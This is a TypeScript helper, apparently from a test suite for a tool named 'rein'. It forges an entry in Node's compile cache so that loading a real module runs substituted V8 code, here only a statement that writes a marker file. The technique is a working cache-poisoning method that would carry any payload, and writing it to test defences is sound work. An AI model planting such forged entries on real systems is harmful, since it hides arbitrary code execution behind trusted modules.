/**
 * Forges an entry of Node's compile cache the way an attacker who knows the format
 * would: the header of the real module (its byte length and CRC-32, all Node checks
 * against the source) over V8 code compiled from other source of the same length
 * (all V8 checks), so that loading the real module runs the other code. The other
 * code is the real module with its first block comment replaced by a statement that
 * writes `$REIN_FORGED_MARKER`: it exports what the real one exports, so the start
 * goes on and only the marker tells that it ran.
 */
import { spawnSync } from "node:child_process";
import { mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { basename, join } from "node:path";
import { crc32 } from "node:zlib";

const STATEMENT =
  'process.env.REIN_FORGED_MARKER&&process.getBuiltinModule("node:fs").writeFileSync(process.env.REIN_FORGED_MARKER,"ran");';

/** The real module's source with its first block comment turned into the marker statement (same length). */
function evilTwin(source: string): string {
  const start = source.indexOf("/*");
  const end = source.indexOf("*/", start) + 2;
  if (start < 0 || end - start < STATEMENT.length) throw new Error("no block comment long enough");
  return `${source.slice(0, start)}${STATEMENT.padEnd(end - start, " ")}${source.slice(end)}`;
}

/**
 * Compiles `file` with Node's cache on in `dir` (in a child, with the V8 flags the
 * victim sets: Node names the version folder, and V8 checks the code, by them);
 * returns that cache's version folder.
 */
function compileInto(dir: string, file: string, v8Flags: readonly string[]): string {
  const flags = v8Flags
    .map((flag) => `require("node:v8").setFlagsFromString(${JSON.stringify(flag)});`)
    .join("");
  const script = `${flags}const m = require("node:module"); m.enableCompileCache(${JSON.stringify(dir)});
import(${JSON.stringify(file)}).catch(() => {}).finally(() => m.flushCompileCache());`;
  // Its exit status does not matter (a bundle's entry runs the CLI, which exits 1 on
  // `-e`'s arguments): Node flushes the cache at exit, and the check below needs it.
  spawnSync(process.execPath, ["-e", script], {
    env: { ...process.env, NODE_COMPILE_CACHE: "" },
    stdio: "ignore",
  });
  const [version] = readdirSync(dir);
  if (version === undefined) throw new Error(`node wrote no compile cache in ${dir}`);
  return join(dir, version);
}

/** The entry in `folder` whose header names source `source` (Node's layout: magic, code size, cache size, code CRC, cache CRC). */
function entryFor(folder: string, source: Buffer): { name: string; bytes: Buffer } {
  for (const name of readdirSync(folder)) {
    const bytes = readFileSync(join(folder, name));
    if (bytes.readUInt32LE(4) === source.length && bytes.readUInt32LE(12) === crc32(source))
      return { name, bytes };
  }
  throw new Error(`no compile cache entry in ${folder} for the source`);
}

/**
 * Plants, in Node's compile cache folder `cacheDir` (the folder given to
 * `enableCompileCache`), an entry that makes `target` (an ES module file) write
 * `$REIN_FORGED_MARKER` when it loads in a process that set `v8Flags` (`rein` sets
 * `--semi-space-growth-factor=1`). Returns the entry's path.
 */
export function plantForgedEntry(cacheDir: string, target: string, v8Flags: readonly string[] = []): string {
  const work = mkdtempSync(join(tmpdir(), "rein-forge-"));
  try {
    const real = readFileSync(target);
    const evil = Buffer.from(evilTwin(real.toString("utf8")), "utf8");
    const twin = join(work, "twin", `${basename(target, ".js")}.mjs`);
    mkdirSync(join(work, "twin"));
    writeFileSync(twin, evil);
    const code = entryFor(compileInto(join(work, "evil"), twin, v8Flags), evil).bytes.subarray(20);
    const genuine = compileInto(join(work, "real"), target, v8Flags);
    const { name } = entryFor(genuine, real);
    const header = Buffer.alloc(20);
    header.writeUInt32LE(entryFor(genuine, real).bytes.readUInt32LE(0), 0);
    header.writeUInt32LE(real.length, 4);
    header.writeUInt32LE(code.length, 8);
    header.writeUInt32LE(crc32(real), 12);
    header.writeUInt32LE(crc32(code), 16);
    const folder = join(cacheDir, basename(genuine));
    mkdirSync(folder, { recursive: true });
    const entry = join(folder, name);
    writeFileSync(entry, Buffer.concat([header, code]));
    return entry;
  } finally {
    rmSync(work, { recursive: true, force: true });
  }
}
